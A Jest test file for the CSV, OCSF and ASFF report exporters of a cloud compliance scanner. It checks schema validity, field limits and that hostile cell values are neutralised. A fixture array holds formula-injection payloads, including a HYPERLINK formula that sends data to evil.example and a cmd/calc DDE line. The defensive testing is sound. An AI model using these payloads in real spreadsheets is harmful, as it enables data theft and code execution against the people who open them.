import { describe, expect, it } from '@jest/globals';
import { Ajv } from 'ajv';
import { parse } from 'csv-parse/sync';
import { ASFF_LIMITS, renderAsff, toAsff } from '../../src/reporters/asff.js';
import { CSV_COLUMNS, csvField, renderCsv } from '../../src/reporters/csv.js';
import { OCSF_VERSION, renderOcsf, toOcsf } from '../../src/reporters/ocsf.js';
import { OcsfSchema } from '../support/ocsf-schema.js';
import { XSS, sampleResult, undeterminedResult } from './fixtures.js';

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\tx', 'a,b "quoted"\r\nnext line'];

/** The sample result with hostile names and a long message on the first failure. */
function hostileResult() {
  const r = sampleResult();
  r.findings.forEach((f, i) => {
    f.resource = {
      ...f.resource,
      name: HOSTILE[i % HOSTILE.length],
      tags: { Owner: HOSTILE[(i + 1) % HOSTILE.length]!, [`k${'x'.repeat(200)}`]: 'v'.repeat(400) },
    };
  });
  r.findings[0]!.message = 'm'.repeat(5000);
  r.findings[0]!.title = 't'.repeat(400);
  r.findings[0]!.evidence = { big: 'e'.repeat(10_000) };
  return r;
}

describe('CSV export', () => {
  it('has one row per finding with the documented columns, RFC 4180 quoting and CRLF line ends', () => {
    const result = hostileResult();
    const text = renderCsv(result);
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows: Record<(typeof CSV_COLUMNS)[number], string>[] = parse(text, { bom: true, columns: true, record_delimiter: '\r\n' });
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(result.findings.length);
    rows.forEach((row, i) => {
      const f = result.findings[i]!;
      expect(row.finding_id).toBe(f.id);
      expect(row.status).toBe(f.status);
      expect(row.rule_id).toBe(f.ruleId);
      expect(row.account).toBe(f.resource.account);
      expect(row.suppressed).toBe(f.suppressed ? 'yes' : 'no');
    });
    const xss = rows.find((r) => r.resource_id === 'sg-0001')!;
    expect(xss.controls).toBe('hipaa/164.312(e)(1); hipaa/164.312(a)(1)');
    expect(rows.find((r) => r.resource_id === 'sg-0003')!.suppression_justification).toBe('Bastion, restricted by NACL (ticket SEC-12)');
    expect(JSON.parse(rows[0]!.evidence)).toEqual({ big: 'e'.repeat(10_000) });
  });

  it('neutralises cells a spreadsheet would run as formulas; the text survives behind an apostrophe', () => {
    const rows: Record<string, string>[] = parse(renderCsv(hostileResult()), { bom: true, columns: true });
    const names = rows.map((r) => r.resource_name);
    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(names).toContain(`'${HOSTILE[0]}`);
    expect(names).toContain(`'${HOSTILE[3]}`);
    expect(names).toContain(HOSTILE[5]);
    expect(csvField('plain')).toBe('plain');
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('say "hi", then')).toBe('"say ""hi"", then"');
  });

  it('keeps an XSS payload as inert text (no quoting surprises)', () => {
    const rows: Record<string, string>[] = parse(renderCsv(sampleResult()), { bom: true, columns: true });
    expect(rows.find((r) => r.resource_id === 'sg-0001')!.resource_name).toBe(XSS);
  });
});

describe('OCSF export', () => {
  const schemas = new OcsfSchema(new URL('../fixtures/ocsf-schema-1.2.0', import.meta.url).pathname);
  const ajv = new Ajv({ allErrors: true, strict: false });
  const validators = {
    cloud: ajv.compile(schemas.eventSchema('compliance_finding', ['cloud'])),
    none: ajv.compile(schemas.eventSchema('compliance_finding')),
  };
  const check = (ev: Record<string, any>) => {
    const v = ev.metadata?.profiles?.includes('cloud') ? validators.cloud : validators.none;
    return v(ev) ? [] : v.errors!.map((e) => `${e.instancePath} ${e.message} ${JSON.stringify(e.params)}`);
  };

  it('vendors the schema release the events name', () => {
    expect(schemas.version).toBe(OCSF_VERSION);
  });

  it('writes one Compliance Finding per finding, each valid against the published OCSF schema', () => {
    for (const result of [sampleResult(), hostileResult(), undeterminedResult()]) {
      const events = JSON.parse(renderOcsf(result));
      expect(events).toHaveLength(result.findings.length);
      for (const ev of events) expect(check(ev)).toEqual([]);
    }
  });

  it('maps status, severity, controls, cloud account and suppression', () => {
    const result = sampleResult();
    const events = toOcsf(result) as Record<string, any>[];
    const byRes = (id: string) => events.find((e) => e.resource.uid.endsWith(id))!;
    const xss = byRes('sg-0001');
    expect(xss).toMatchObject({ class_uid: 2003, category_uid: 2, type_uid: 200301, severity_id: 4, status_id: 1 });
    expect(xss.compliance).toMatchObject({
      status_id: 3,
      status: 'Fail',
      control: 'test-sg-open',
      requirements: ['hipaa/164.312(e)(1)', 'hipaa/164.312(a)(1)'],
      standards: ['HIPAA Security Rule 45 CFR 164 Subpart C'],
    });
    expect(xss.cloud).toEqual({ provider: 'AWS', account: { uid: '123456789012' }, region: 'us-east-1' });
    expect(xss.resource).toMatchObject({ name: XSS, type: 'aws.ec2.security-group', cloud_partition: 'aws' });
    expect(byRes('sg-0003')).toMatchObject({ status_id: 3, status: 'Suppressed' });
    const unknown = events.find((e) => e.compliance.status_id === 2)!;
    expect(unknown.compliance.status).toBe('Warning');
    const tls = events.find((e) => e.resource.type === 'tls.endpoint')!;
    expect(tls.cloud).toBeUndefined();
    expect(tls.metadata.profiles).toBeUndefined();
  });

  it('the schema check itself rejects a broken event (an undeclared key, a missing required field, a bad enum)', () => {
    const ev = toOcsf(sampleResult())[0] as Record<string, any>;
    expect(check({ ...ev, colour: 'red' })).not.toEqual([]);
    const { finding_info: _, ...noInfo } = ev;
    expect(check(noInfo)).not.toEqual([]);
    expect(check({ ...ev, severity_id: 42 })).not.toEqual([]);
    expect(check({ ...ev, class_uid: 2001 })).not.toEqual([]);
    const { cloud: __, ...noCloud } = ev;
    expect(check(noCloud)).not.toEqual([]);
  });
});

/** The `BatchImportFindings` rules an ASFF finding must meet (AWS Security Hub API reference, AwsSecurityFinding). */
function asffProblems(f: Record<string, any>): string[] {
  const p: string[] = [];
  const str = (path: string, v: unknown, max: number, min = 1) => {
    if (typeof v !== 'string' || [...v].length < min || [...v].length > max || !/\S/.test(v)) p.push(`${path}: string of ${min}..${max} characters required`);
  };
  const ts = (path: string, v: unknown) => {
    if (typeof v !== 'string' || !/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?(Z|[+-]\d{2}:?\d{2})$/.test(v)) p.push(`${path}: timestamp`);
  };
  if (f.SchemaVersion !== '2018-10-08') p.push('SchemaVersion');
  str('Id', f.Id, ASFF_LIMITS.id);
  str('GeneratorId', f.GeneratorId, ASFF_LIMITS.generatorId);
  str('Title', f.Title, ASFF_LIMITS.title);
  str('Description', f.Description, ASFF_LIMITS.description);
  if (!/^\d{12}$/.test(f.AwsAccountId)) p.push('AwsAccountId');
  if (!/^arn:(aws|aws-cn|aws-us-gov):securityhub:[a-z]{2}(-[a-z]+)+-\d:\d{12}:product\/\d{12}\/default$/.test(f.ProductArn)) p.push('ProductArn');
  for (const k of ['CreatedAt', 'UpdatedAt', 'FirstObservedAt', 'LastObservedAt']) ts(k, f[k]);
  if (!Array.isArray(f.Types) || !f.Types.length || f.Types.length > ASFF_LIMITS.types) p.push('Types');
  for (const t of f.Types ?? [])
    if (!/^(Software and Configuration Checks|TTPs|Effects|Unusual Behaviors|Sensitive Data Identifications)(\/[^/]+){0,2}$/.test(t)) p.push(`Types: ${t}`);
  if (!['INFORMATIONAL', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'].includes(f.Severity?.Label)) p.push('Severity.Label');
  if (!Array.isArray(f.Resources) || !f.Resources.length || f.Resources.length > ASFF_LIMITS.resources) p.push('Resources');
  for (const [i, r] of (f.Resources ?? []).entries()) {
    str(`Resources[${i}].Id`, r.Id, ASFF_LIMITS.resourceId);
    str(`Resources[${i}].Type`, r.Type, ASFF_LIMITS.resourceType);
    if (!['aws', 'aws-cn', 'aws-us-gov'].includes(r.Partition)) p.push('Partition');
    if (!/^[a-z]{2}(-[a-z]+)+-\d$/.test(r.Region)) p.push(`Region ${r.Region}`);
    const tags = Object.entries<string>(r.Tags ?? {});
    if (tags.length > ASFF_LIMITS.resourceTags) p.push('Tags count');
    for (const [k, v] of tags) {
      str(`Tags key`, k, ASFF_LIMITS.tagKey);
      str(`Tags value`, v, ASFF_LIMITS.tagValue, 0);
    }
  }
  const pf = Object.entries<string>(f.ProductFields ?? {});
  if (pf.length > ASFF_LIMITS.productFields) p.push('ProductFields count');
  for (const [k, v] of pf) {
    str('ProductFields key', k, ASFF_LIMITS.productFieldKey);
    str(`ProductFields ${k}`, v, ASFF_LIMITS.productFieldValue);
  }
  if (f.Remediation) str('Remediation.Recommendation.Text', f.Remediation.Recommendation.Text, ASFF_LIMITS.remediationText);
  if (f.Remediation?.Recommendation.Url && !/^https:\/\//.test(f.Remediation.Recommendation.Url)) p.push('Remediation Url');
  if (f.Note) str('Note.Text', f.Note.Text, ASFF_LIMITS.noteText);
  if (!['PASSED', 'WARNING', 'FAILED', 'NOT_AVAILABLE'].includes(f.Compliance?.Status)) p.push('Compliance.Status');
  if ((f.Compliance?.RelatedRequirements ?? []).length > ASFF_LIMITS.relatedRequirements) p.push('RelatedRequirements');
  if (!['NEW', 'NOTIFIED', 'RESOLVED', 'SUPPRESSED'].includes(f.Workflow?.Status)) p.push('Workflow.Status');
  if (!['ACTIVE', 'ARCHIVED'].includes(f.RecordState)) p.push('RecordState');
  if (Buffer.byteLength(JSON.stringify(f)) > ASFF_LIMITS.findingBytes) p.push('finding size');
  return p;
}

describe('ASFF export', () => {
  it('meets the BatchImportFindings field limits, even for oversized and hostile values', () => {
    for (const result of [sampleResult(), hostileResult(), undeterminedResult()]) {
      const findings = JSON.parse(renderAsff(result));
      expect(findings.length).toBeGreaterThan(0);
      for (const f of findings) expect(asffProblems(f)).toEqual([]);
    }
  });

  it('has the AWS findings only (GCP and TLS have no account to import into), with status and workflow mapped', () => {
    const result = sampleResult();
    const findings = toAsff(result) as Record<string, any>[];
    const aws = result.findings.filter((f) => f.resource.provider === 'aws' && f.status !== 'not_applicable');
    expect(findings.map((f) => f.ProductFields['vigil/FindingId'])).toEqual(aws.map((f) => f.id));
    const byRes = (id: string) => findings.find((f) => f.Resources[0].Id.endsWith(id))!;
    expect(byRes('sg-0001')).toMatchObject({
      AwsAccountId: '123456789012',
      ProductArn: 'arn:aws:securityhub:us-east-1:123456789012:product/123456789012/default',
      Severity: { Label: 'HIGH', Original: 'high' },
      Compliance: { Status: 'FAILED', RelatedRequirements: ['hipaa/164.312(e)(1)', 'hipaa/164.312(a)(1)'] },
      Workflow: { Status: 'NEW' },
      Resources: [{ Type: 'AwsEc2SecurityGroup', Id: 'arn:aws:ec2:us-east-1:123456789012:security-group/sg-0001', Partition: 'aws', Region: 'us-east-1' }],
      Remediation: { Recommendation: { Url: 'https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-groups.html' } },
    });
    expect(byRes('sg-0003')).toMatchObject({ Workflow: { Status: 'SUPPRESSED' }, Note: { Text: 'Bastion, restricted by NACL (ticket SEC-12)' } });
    expect(byRes('sg-0002')).toMatchObject({ Compliance: { Status: 'PASSED' }, Severity: { Label: 'INFORMATIONAL' } });
    expect(findings.filter((f) => f.Compliance.Status === 'NOT_AVAILABLE')).toHaveLength(result.findings.filter((f) => f.status === 'unknown').length);
  });

  it("imports a global resource (IAM) into a region the scan covered, or its partition's first region", () => {
    const result = sampleResult();
    const f = result.findings.find((x) => x.resource.id === 'sg-0001')!;
    f.resource = { ...f.resource, region: 'global', type: 'aws.iam.user', arn: 'arn:aws:iam::123456789012:user/ci' };
    const g = result.findings.find((x) => x.resource.id === 'sg-0009')!;
    g.resource = { ...g.resource, region: 'global', type: 'aws.iam.role', arn: undefined };
    result.snapshot.scopes[1] = { provider: 'aws', account: '210987654321', regions: ['global'], detail: { partition: 'aws-cn' } };
    const out = toAsff(result) as Record<string, any>[];
    const of = (id: string) => out.find((x) => x.ProductFields['vigil/FindingId'] === id)!;
    expect(of(f.id).Resources[0]).toEqual({ Type: 'AwsIamUser', Id: 'arn:aws:iam::123456789012:user/ci', Partition: 'aws', Region: 'us-east-1' });
    expect(of(f.id).ProductArn).toBe('arn:aws:securityhub:us-east-1:123456789012:product/123456789012/default');
    expect(of(g.id).Resources[0]).toMatchObject({ Type: 'AwsIamRole', Partition: 'aws-cn', Region: 'cn-north-1' });
    for (const x of out) expect(asffProblems(x)).toEqual([]);
  });

  it('the limit check itself catches an oversized field', () => {
    const f = toAsff(sampleResult())[0] as Record<string, any>;
    expect(asffProblems({ ...f, Title: 'x'.repeat(257) })).toEqual(['Title: string of 1..256 characters required']);
    expect(asffProblems({ ...f, Resources: [{ ...f.Resources[0], Region: 'global' }] })).toEqual(['Region global']);
  });
});
